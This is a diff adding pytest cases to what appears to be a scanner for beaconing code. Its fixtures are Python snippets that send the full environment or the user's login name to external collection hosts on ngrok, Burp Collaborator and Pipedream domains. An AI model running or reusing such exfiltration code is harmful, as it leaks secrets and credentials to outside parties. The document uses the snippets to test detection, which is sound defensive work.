@@ -135,3 +135,27 @@ def test_watched_calls_are_look_ups_clipboard_calls_and_processes() -> None:
     assert watched("socket.gethostbyname") and watched("dns.resolver.resolve") and watched("*.resolve")
     assert watched("pyperclip.paste") and watched("subprocess.run") and watched("os.system")
     assert not watched("requests.get") and not watched("*.get") and not watched("socket.gethostname")
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # the destination in a local variable, the data the whole environment
+        "import os, urllib.parse, urllib.request\ndef send():\n"
+        "    data = urllib.parse.urlencode(dict(os.environ))\n    url = 'https://1a6b.ngrok-free.app'\n"
+        "    urllib.request.urlopen(urllib.request.Request(url, data))\n",
+        # a base in a local variable, the data in the query string
+        "import os, urllib.request\ndef send():\n    base = 'http://y875.burpcollaborator.net'\n"
+        "    url = f'{base}/?u={os.getlogin()}'\n    urllib.request.urlopen(url)\n",
+        # at module level, built around the data
+        "import os, requests\nsecret = str(os.environ)\ndata = 'https://eow8.m.pipedream.net/' + secret\n"
+        "requests.get(data)\n",
+    ],
+)
+def test_host_data_sent_to_a_destination_held_in_a_name(code: str) -> None:
+    beacon = features(code).evidence_for(BEACON_TOKEN)[0]  # urlopen(Request(...)): two sends, one line
+    assert "host data (" in beacon.message and beacon.line == code.count("\n")
+    # the same destination under a placeholder domain: no beacon
+    for host in ("1a6b.ngrok-free.app", "y875.burpcollaborator.net", "eow8.m.pipedream.net"):
+        code = code.replace(host, "sync.example.net")
+    assert BEACON_TOKEN not in tokens(code)
